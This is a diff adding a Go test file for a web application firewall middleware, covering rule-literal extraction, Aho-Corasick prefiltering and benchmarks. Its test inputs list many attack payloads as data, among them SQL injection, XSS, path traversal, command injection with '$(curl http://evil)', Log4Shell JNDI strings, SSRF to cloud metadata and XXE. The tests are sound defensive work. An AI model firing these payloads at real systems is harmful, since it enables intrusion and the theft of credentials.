@@ -0,0 +1,193 @@
+package middleware
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestRuleLiterals(t *testing.T) {
+	tests := []struct {
+		operator, value string
+		want            []string // nil = the rule always runs
+	}{
+		{"regex", `(?i)union\s+select`, []string{"union"}},
+		{"regex", `<script`, []string{"<script"}},
+		{"regex", `(?i)(?:onerror|onload)\s*=`, []string{"error", "load"}},
+		{"regex", `(?i)javascript:`, []string{"cript:"}},
+		{"regex", `[<>]`, []string{"<", ">"}},
+		{"regex", `\.\./`, []string{"../"}},
+		{"regex", `(?:\.\.[/\\]){2,}`, []string{".."}},
+		{"regex", `^\s*\(\s*\)\s*\{`, []string{"("}},
+		{"regex", `\w+`, nil},
+		{"regex", `[^a]`, nil},
+		{"regex", `a*`, nil},
+		{"regex", `(?:foo|\w+)bar`, []string{"bar"}},
+		{"regex", `(?:foo|\w+)`, nil},
+
+		// (?i)k and (?i)s also match non-ASCII runes, which folding ASCII
+		// can't see: the literal is cut at them.
+		{"regex", `(?i)skip`, []string{"ip"}},
+		{"regex", `(?i)kelvin`, []string{"elvin"}},
+		{"regex", `ks`, []string{"ks"}},
+
+		{"contains", "SQLMap", []string{"sqlmap"}},
+		{"begins_with", "/admin", []string{"/admin"}},
+		{"detect_jndi", "", []string{"${"}},
+		{"detect_sqli", "", nil},
+	}
+	for _, tt := range tests {
+		got, ok := ruleLiterals(&Rule{Operator: tt.operator, Value: tt.value})
+		if !ok {
+			got = nil
+		}
+		slices.Sort(got)
+		slices.Sort(tt.want)
+		if !slices.Equal(got, tt.want) {
+			t.Errorf("%s %q: got %q, want %q", tt.operator, tt.value, got, tt.want)
+		}
+	}
+}
+
+func TestAhoCorasick(t *testing.T) {
+	patterns := []string{"he", "she", "his", "hers", "<!", "${"}
+	ac := newAhoCorasick(patterns)
+	owners := []int{0, 1, 2, 3, 4, 5}
+
+	tests := []struct {
+		input string
+		want  []int
+	}{
+		{"ushers", []int{0, 1, 3}},
+		{"USHERS", []int{0, 1, 3}},
+		{"ahishe", []int{0, 1, 2}},
+		{"<!DOCTYPE", []int{4}},
+		{"$${{jndi", []int{5}},
+		{"nothing here", []int{0}},
+		{"xyz", nil},
+		{"", nil},
+	}
+	for _, tt := range tests {
+		marks := make([]bool, len(patterns))
+		ac.mark(tt.input, owners, marks)
+		var got []int
+		for i, m := range marks {
+			if m {
+				got = append(got, i)
+			}
+		}
+		if !slices.Equal(got, tt.want) {
+			t.Errorf("%q: got %v, want %v", tt.input, got, tt.want)
+		}
+	}
+}
+
+// sequentialMatches is the plain rule loop the prefilter replaces: every
+// rule against every field it targets.
+func sequentialMatches(rules []*Rule, fields []field) []string {
+	var ids []string
+	for _, r := range rules {
+		for _, f := range fields {
+			if f.value == "" || !r.HasTarget(f.target) {
+				continue
+			}
+			if r.match(r.transformFor(f.target)(f.value)) {
+				ids = append(ids, r.ID+"@"+f.String())
+				break
+			}
+		}
+	}
+	return ids
+}
+
+func TestPrefilterMatchesSequential(t *testing.T) {
+	inputs := []string{
+		"hello world", "' OR 1=1--", "1 UNION/**/SELECT password FROM users",
+		"<script>alert(1)</script>", "<ScRiPt>", "%3Csvg%20onload%3Dalert(1)%3E",
+		"javascript:alert(1)", "JAVASCRIPT&#58;alert(1)", "../../../../etc/passwd",
+		"..%2f..%2f..%2fetc%2fpasswd", "%c0%ae%c0%ae/%c0%ae%c0%ae/win.ini",
+		"; cat /etc/passwd", "a | whoami", "$(curl http://evil)", "() { :; }; /bin/bash",
+		"http://169.254.169.254/latest/meta-data", "gopher://127.0.0.1:6379/_",
+		"{{7*7}}", "${T(java.lang.Runtime).getRuntime()}", "${jndi:ldap://x/a}",
+		"${${lower:j}ndi:ldap://x}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
+		`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`,
+		`{"$where": "sleep(100)"}`, `{"__proto__": {"admin": true}}`,
+		"/home/app/.ssh/id_rsa", "WEB-INF/web.xml", `C:\Windows\win.ini`, "/proc/self/environ",
+		"php://filter/resource=index.php", "..\xc0\xaf..\xc0\xafapp.cfg", "..;/..;/manager",
+		"#set($x = $class.inspect('java.lang.Runtime'))", `<#assign ex="freemarker.template.utility.Execute"?new()>`,
+		"<%= 7*7 %>", "#{7*7}", "x;c'a't /etc/hosts", "$'('id)", "x & type C:\\boot.ini",
+		"sKip", "Kelvin", "ſelect", "Tom & Jerry; cat lovers", "",
+	}
+	targets := []string{TargetPath, TargetQuery, TargetHeader, TargetCookie, TargetBody, TargetKeys}
+
+	si := NewSecurityInspector(InspectorOptions{Rules: DefaultRules(), ParanoiaLevel: MaxParanoia})
+	for _, in := range inputs {
+		for _, target := range targets {
+			fields := []field{
+				{target: target, source: "x", name: "a", value: "benign"},
+				{target: target, source: "x", name: "b", value: in},
+				{target: TargetHeader, source: "header", name: "User-Agent", value: in},
+			}
+			ev := &evaluation{}
+			si.evaluate(fields, ev)
+			var got []string
+			for _, m := range ev.matches {
+				got = append(got, m.RuleID)
+			}
+			var want []string
+			for _, id := range sequentialMatches(si.rules, fields) {
+				want = append(want, id[:strings.Index(id, "@")])
+			}
+			if !slices.Equal(got, want) {
+				t.Errorf("%s %q: prefilter matched %v, sequential %v", target, in, got, want)
+			}
+		}
+	}
+}
+
+// syntheticRules builds n distinct rules in the shape of the built-in ones.
+func syntheticRules(b *testing.B, n int) []*Rule {
+	rules := make([]*Rule, 0, n)
+	for i := range n {
+		r := &Rule{
+			ID:         fmt.Sprintf("9%05d", i),
+			Targets:    []string{TargetQuery, TargetBody, TargetHeader},
+			Operator:   "regex",
+			Value:      fmt.Sprintf(`(?i)\bevil%dfunc\s*\(`, i),
+			Transforms: []string{"url_decode", "lowercase"},
+		}
+		if err := r.compile(); err != nil {
+			b.Fatal(err)
+		}
+		rules = append(rules, r)
+	}
+	return rules
+}
+
+func BenchmarkInspector(b *testing.B) {
+	fields := []field{
+		{target: TargetHeader, source: "header", name: "User-Agent", value: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"},
+		{target: TargetHeader, source: "header", name: "Accept", value: "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"},
+		{target: TargetQuery, source: "query", name: "q", value: "how to make sourdough bread at home"},
+		{target: TargetQuery, source: "query", name: "page", value: "2"},
+		{target: TargetBody, source: "json", name: "$.comment", value: strings.Repeat("A perfectly ordinary review of a product. ", 20)},
+		{target: TargetBody, source: "json", name: "$.email", value: "someone@example.com"},
+	}
+
+	for _, n := range []int{10, 100, 1000} {
+		rules := syntheticRules(b, n)
+		si := NewSecurityInspector(InspectorOptions{Rules: rules})
+
+		b.Run(fmt.Sprintf("rules=%d/prefilter", n), func(b *testing.B) {
+			for b.Loop() {
+				si.evaluate(fields, &evaluation{})
+			}
+		})
+		b.Run(fmt.Sprintf("rules=%d/sequential", n), func(b *testing.B) {
+			for b.Loop() {
+				sequentialMatches(si.rules, fields)
+			}
+		})
+	}
+}